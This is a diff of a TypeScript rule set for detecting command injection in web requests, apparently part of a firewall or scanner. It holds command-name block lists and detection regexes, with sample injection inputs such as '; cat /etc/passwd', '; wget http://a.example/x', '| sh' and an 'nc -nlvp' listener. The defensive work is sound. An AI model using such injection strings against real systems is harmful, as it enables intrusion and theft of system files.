@@ -10,26 +10,32 @@ const GTFO = 'https://gtfobins.github.io/';
 /** Commands whose names are no words of ordinary texts. */
 const SURE = oneOf(
   words(`
-  whoami ifconfig iwconfig uname netstat nslookup traceroute tracepath printenv useradd adduser userdel usermod groupadd
-  groups chmod chown chgrp chattr lsattr mkdir rmdir mkfifo mknod mktemp crontab nohup strace ltrace tcpdump tshark nmap ncat
-  netcat socat wget curl lwp-download lwp-request lynx axel aria2c rsync sshpass ssh scp sftp tftp ftp telnet rlogin rsh
-  bash zsh ksh csh tcsh dash fish ash pwsh rbash busybox perl python python2 python3 ruby irb php php5 php7 nodejs node lua
-  luajit tclsh expect awk gawk mawk nawk sed egrep fgrep zgrep grep xargs tac xxd hexdump base32 base64 uuencode
-  uudecode gzip gunzip bzip2 bunzip2 unxz xz zcat bzcat xzcat unzip tar cpio lsof lsblk lscpu lsmod lspci lsusb dmesg dmidecode
-  sysctl systemctl journalctl hostnamectl getent getfacl setfacl visudo sudo doas passwd chpasswd chsh chfn mkpasswd
-  killall pkill pgrep pidof htop uptime vmstat iostat ipconfig iptables nft ufw apt-get aptitude dpkg yum dnf zypper pacman
-  rpm emerge pip pip2 pip3 pipx easy_install gem npm npx yarn composer docker podman kubectl ctr runc lxc unshare nsenter
-  chroot debootstrap ansible ansible-playbook ansible-galaxy ansible-config ansible-doc ansible-pull ansible-vault
-  ansible-inventory ansible-console chef-client chef-vault chef-run chef-solo puppet cscli gcc g++ cc clang gdb gdbserver
-  make cmake vim vimdiff rvim nano pico emacs joe ed ex vi view less more lastlog lastb stat readlink realpath
-  dd df du ls cat id pwd ps env tee wc od nl rev rm cp mv ln sh nc touch mysql mysqldump psql sqlite3
-  mongo redis-cli openssl gpg ssh-keygen ssh-agent ssh-keyscan dig host ping ping6 arp route ip iw tty stty screen tmux
-  byobu script nice ionice timeout setsid stdbuf taskset chrt flock logsave watch xdotool cpulimit perf valgrind rmt uconv
-  column comm csplit split paste expand fold fmt pr shuf sort uniq cut tr head tail strings sleep echo printf
-  kill reboot shutdown halt poweroff init telinit mount umount fdisk mkfs swapon wall write mesg mail sendmail mutt exim
-  finger last who w users date cal bc hostname domainname dnsdomainname alias unalias export unset eval exec source declare typeset
-  local readonly trap set shopt ulimit umask find locate whereis which type file zip 7z ar ab jq jrunscript java javac
-  git svn hg cvs restic tasksh task tex latex pdflatex zsoelim awk time at batch sysctl service systemd-run`),
+  whoami ifconfig iwconfig uname netstat nslookup traceroute tracepath printenv useradd adduser userdel usermod
+  groupadd chmod chown chgrp chattr lsattr mkdir rmdir mkfifo mknod mktemp crontab nohup strace ltrace tcpdump
+  tshark nmap ncat netcat socat wget curl lwp-download lwp-request lynx axel aria2c rsync sshpass ssh scp sftp tftp
+  ftp telnet rlogin rsh bash zsh ksh csh tcsh dash pwsh rbash busybox perl python python2 python3 ruby irb php php5
+  php7 nodejs lua luajit tclsh awk gawk mawk nawk sed egrep fgrep zgrep grep xargs tac xxd hexdump base32 base64
+  uuencode uudecode gzip gunzip bzip2 bunzip2 unxz xz zcat bzcat xzcat unzip tar cpio lsof lsblk lscpu lsmod lspci
+  lsusb dmesg dmidecode sysctl systemctl journalctl hostnamectl getent getfacl setfacl visudo sudo doas chpasswd
+  chsh chfn mkpasswd killall pkill pgrep pidof htop uptime vmstat iostat ipconfig iptables nft ufw apt-get aptitude
+  dpkg yum dnf zypper pacman rpm emerge pip pip2 pip3 pipx easy_install gem npm npx yarn docker podman kubectl ctr
+  runc lxc unshare nsenter chroot debootstrap ansible ansible-playbook ansible-galaxy ansible-config ansible-doc
+  ansible-pull ansible-vault ansible-inventory ansible-console chef-client chef-vault chef-run chef-solo cscli gcc
+  g++ cc clang gdb gdbserver cmake vim vimdiff rvim nano pico emacs joe vi lastlog lastb stat readlink realpath dd
+  df du ls cat pwd ps tee wc od nl rm cp mv ln sh nc touch mysql mysqldump psql sqlite3 redis-cli openssl gpg
+  ssh-keygen ssh-agent ssh-keyscan dig ping ping6 arp tty stty tmux byobu ionice timeout setsid stdbuf taskset chrt
+  flock logsave watch xdotool cpulimit perf valgrind rmt uconv csplit shuf uniq sleep echo printf kill reboot
+  shutdown poweroff telinit umount fdisk mkfs swapon sendmail mutt exim dnsdomainname unalias typeset shopt ulimit
+  umask whereis zip 7z jq jrunscript java javac git svn hg cvs restic tasksh latex pdflatex zsoelim systemd-run`),
+);
+
+/** Commands whose names are everyday words too. */
+const EVERYDAY = oneOf(
+  words(`
+  groups fish ash node expect passwd composer chef knife puppet make ed ex view less more id env rev mongo host
+  route ip iw screen script nice column comm split paste expand fold fmt pr sort cut tr head tail strings halt init
+  mount wall write mesg mail finger last who w users date cal bc hostname domainname alias export unset eval exec
+  source declare local readonly trap set find locate which type file ar ab task tex time at batch service`),
 );
 
 /** Those of them whose names are so rare elsewhere that they may stand alone. */
@@ -65,9 +71,21 @@ export const COMMAND_INJECTION: readonly RuleText[] = [
       regex: String.raw`(?:;|\||&&|\x60|\$\(|<\(|>\(|^\s*&|\s&)[\s({'"!\x60]*(?:\w{1,12}=\S{0,40}\s+)?(?:(?:sudo|time|nohup|exec|env|command|eval|nice|setsid|timeout\s+\d+)\s+)?['"]?${PATHS}${SURE}(?:[\d.]{1,5})?['"]?(?:\s*$|\s*(?:[;|&<)\x60\r\n}]|>\s*[/&\d])|\s+[-/$*~&|>{(?]\S|\s+\S*[/*$?\x60>|<;=-]|\s*['"]\s*$)`,
     },
     examples: {
-      match: ['127.0.0.1; cat /etc/passwd', 'x|id', '`whoami`', '$(uname -a)', 'a && ls -la', '; ps'],
+      match: ['127.0.0.1; cat /etc/passwd', 'x|ls', '`whoami`', '$(uname -a)', 'a && ls -la', '; ps'],
       spare: ['tea; milk', 'salt & pepper', 'text/html; charset=utf-8', 'one | two | three', 'cats; dogs'],
     },
+    source: OWASP,
+  },
+  {
+    id: 'cmd-separator-everyday',
+    alert: 'A separator of shells, then a command whose name is an everyday word, with an option, a file or nothing',
+    evidence: 'COMMAND_INJECTION',
+    severity: 'high',
+    action: 'block',
+    confidence: 0.91,
+    where: ['path', 'name', 'value'],
+    match: { regex: String.raw`(?:;|&&|\|\||\x60|\$\(|^\s*[|&])[\s({'"]*${PATHS}${EVERYDAY}(?:\s*$|\s*[;|&)\x60]|\s+(?:-{1,2}[a-z]|/\w|\d{1,2}:\d\d|\S+\s*$))` },
+    examples: { match: [';set', '; find /tmp', '|| id'], spare: ['make; do', 'first, then find', 'a | type | null'] },
     source: OWASP,
   },
   {
@@ -79,7 +97,7 @@ export const COMMAND_INJECTION: readonly RuleText[] = [
     confidence: 0.92,
     where: 'any',
     match: {
-      regex: String.raw`(?:;|\||&&|\x60|\$\(|<\(|\n)[\s('"]*(?:(?:sudo|time|nohup|exec)\s+)?${PATHS}(?:whoami|ifconfig|uname|netstat|nslookup|printenv|useradd|adduser|chmod|chown|mkfifo|crontab|nohup|strace|nmap|ncat|netcat|socat|wget|curl|lwp-download|busybox|python[23]?|perl|bash|zsh|ksh|tcsh|ash|sh|gunzip|lsof|systemctl|sudo|apt-get|aptitude|yum|pip3?|gcc|xxd|tac|telnet|tftp|ping|cat|ls|rm|echo|sleep|ansible|cscli|lastlog|visudo|dig|mkdir|cpulimit|perf|rmt|irb)(?:[\d.]{0,4})['"]?${END}`,
+      regex: String.raw`(?:;|\||&&|\x60|\$\(|<\(|\n)[\s('"]*(?:(?:sudo|time|nohup|exec)\s+)?${PATHS}(?:whoami|ifconfig|uname|netstat|nslookup|printenv|useradd|adduser|chmod|chown|mkfifo|crontab|nohup|strace|nmap|ncat|netcat|socat|wget|curl|lwp-download|busybox|python[23]?|perl|bash|zsh|ksh|tcsh|ash|sh|gunzip|lsof|systemctl|sudo|apt-get|aptitude|yum|pip3?|gcc|xxd|tac|telnet|tftp|ping|cat|ls|rm|echo|sleep|ansible|cscli|lastlog|visudo|dig|mkdir|cpulimit|perf|rmt|irb|ansible-\w+|chef-\w+)(?:[\d.]{0,4})['"]?${END}`,
     },
     examples: {
       match: ['x; wget http://a.example/x', '| sh', '; sleep 5', 'a;ping 10.0.0.1'],
@@ -96,7 +114,7 @@ export const COMMAND_INJECTION: readonly RuleText[] = [
     confidence: 0.92,
     where: ['header:user-agent', 'header:referer', 'header:x-forwarded-for', 'header:host'],
     match: {
-      regex: String.raw`(?:^\s*[;|&\x60]|&&|\$\(|\x60)[\s({'"\x60]*${PATHS}${SURE}(?:\s*$|\s*[;|&<>)\x60]|\s+\S)`,
+      regex: String.raw`(?:^\s*[;|&\x60]|&&|\$\(|\x60)[\s({'"\x60]*${PATHS}(?:${SURE}|${EVERYDAY})(?:\s*$|\s*[;|&<>)\x60]|\s+\S)`,
     },
     examples: {
       match: [{ headers: { 'user-agent': ';chmod +x evil.php' } }, { headers: { referer: ';env' } }],
@@ -116,7 +134,7 @@ export const COMMAND_INJECTION: readonly RuleText[] = [
     confidence: 0.93,
     where: ['name', 'value', 'header:user-agent', 'header:referer', 'path'],
     match: {
-      regex: String.raw`(?:^|[\s;|&'"\x60(=<>,:!+]|c\$@)/?(?:usr/)?(?:local/)?s?bin/${SURE}(?:[\d.]{1,4})?${END}|/(?:usr/(?:local/)?)?s?bin/(?:ba|z|k|c|tc|da|a)?sh\b|(?:^|[\s;|&'"\x60(=])/usr/(?:local/)?s?bin/[\w.-]+(?:\s|$)`,
+      regex: String.raw`(?:^|[\s;|&'"\x60(=<>,:!+]|c\$@)/?(?:usr/)?(?:local/)?s?bin/(?:${SURE}|${EVERYDAY})(?:[\d.]{1,4})?${END}|/(?:usr/(?:local/)?)?s?bin/(?:ba|z|k|c|tc|da|a)?sh\b|(?:^|[\s;|&'"\x60(=])/usr/(?:local/)?s?bin/[\w.-]+(?:\s|$)`,
     },
     examples: {
       match: ['/bin/cat /etc/passwd', '/usr/bin/perl -e 1', 'bin/ls', '/bin/sh'],
@@ -153,6 +171,18 @@ export const COMMAND_INJECTION: readonly RuleText[] = [
       regex: String.raw`^[\s'"]*(?:(?:time|nohup|strace|sudo|exec|env)\s+)?${PATHS}${LONE}['"\s;]*$|^['"]?id['"]$|^(?:time|strace|nohup)\s+(?:who|id|ps|ls)$`,
     },
     examples: { match: ['whoami', 'time ifconfig', '"id"'], spare: ['who am i', 'id', 'uname of ships'] },
+    source: OWASP,
+  },
+  {
+    id: 'cmd-alone-in-header',
+    alert: 'A header is nothing but the name of a command',
+    evidence: 'COMMAND_INJECTION',
+    severity: 'medium',
+    action: 'alert',
+    confidence: 0.92,
+    where: ['header:user-agent', 'header:referer'],
+    match: { regex: String.raw`^(?:id|ls|ps|env|set|whoami|pwd|uname|ifconfig|who|w|df|dir|ver|hostname|printenv|netstat|last)$` },
+    examples: { match: [{ headers: { 'user-agent': 'id' } }, { headers: { referer: 'whoami' } }], spare: [{ headers: { 'user-agent': 'id/1.0' } }, { headers: { referer: 'https://a.example/id' } }] },
     source: OWASP,
   },
   {
@@ -239,7 +269,7 @@ export const COMMAND_INJECTION: readonly RuleText[] = [
     confidence: 0.93,
     where: ['name', 'value', 'header:user-agent', 'path'],
     match: {
-      regex: String.raw`\$\(\s*(?:/\S*/)?${SURE}(?:\s+[^)]{0,200})?\)|\$\(\(\s*\$?\(|\$\(\s*(?:cmd|command|\$\()|[<>]\(\s*(?:cmd|[a-z]{2,12}(?:\s+[^)]{1,60})?)\)\s*$|\$\{\s*\x60|\x60\s*(?:/\S*/)?${SURE}(?:\s[ -_a-~]{0,200})?\x60|\$\[\s*\$?[\]\[(]|\w\$\(\)|\$\[\]`,
+      regex: String.raw`\$\(\s*(?:/\S*/)?(?:${SURE}|${EVERYDAY})(?:\s+[^)]{0,200})?\)|\$\(\(\s*\$?\(|\$\(\s*(?:cmd|command|\$\()|[<>]\(\s*(?:cmd|[a-z]{2,12}(?:\s+[^)]{1,60})?)\)\s*$|\$\{\s*\x60|\x60\s*(?:/\S*/)?(?:${SURE}|${EVERYDAY})(?:\s[ -_a-~]{0,200})?\x60|\$\[\s*\$?[\]\[(]|\w\$\(\)|\$\[\]`,
     },
     examples: {
       match: ['$(cat /etc/hosts)', 'x`id`', '<(cmd)', '$(whoami)'],
@@ -256,7 +286,7 @@ export const COMMAND_INJECTION: readonly RuleText[] = [
     confidence: 0.95,
     where: 'any',
     match: {
-      regex: String.raw`\$\{?ifs\b|\$\{path[:#%]|\$\{path\}|\$\{\w{1,20}:\d+:\d+\}|\$\{[a-z_]{1,20}#\{|(?:^|[;&|\s])\w{1,12}=[\w/\\'" -]{0,30}(?:;|&&|&)\s*(?:\w{1,12}=\S{0,30}\s*(?:;|&&|&)\s*)*\$\w|\w\$[@*]\w|\w\$\{\w{0,3}\}\w|(?:^|[\s;|&])\w{1,6}\$\w\\|^\w{1,8}\$\$\w{1,8}(?:\s|$)|;\s*\w+\$\$\w|\|\$\w\s+\S|;\s*\$\w{1,3}\s?\w{1,8}\s|\w\$u[\s/\\]`,
+      regex: String.raw`\$\{?ifs\b|\$\{path[:#%]|\$\{path\}|\$\{\w{1,20}:\d+:\d+\}|\$\{[a-z_]{1,20}#\{|(?:^|[;&|\s])\w{1,12}=[\w/\\'" -]{0,30}(?:;|&&|&)\s*(?:\w{1,12}=\S{0,30}\s*(?:;|&&|&)\s*)*\$\w|\w\$[@*]\w|\w\$\{\w{0,3}\}\w|(?:^|[\s;|&])[a-z]{1,6}\$[a-z]\\[a-z]|^\w{1,8}\$\$\w{1,8}(?:\s|$)|;\s*\w+\$\$\w|[;|&]\s*\$\{[\w.]+\}\w|\|\$\w\s+\S|;\s*\$\w{1,3}\s?\w{1,8}\s|\w\$u[\s/\\]`,
     },
     examples: {
       match: ['cat${IFS}/etc/passwd', 'a=nc&&$a -nlvp 555', 'c$@at /etc/hosts'],
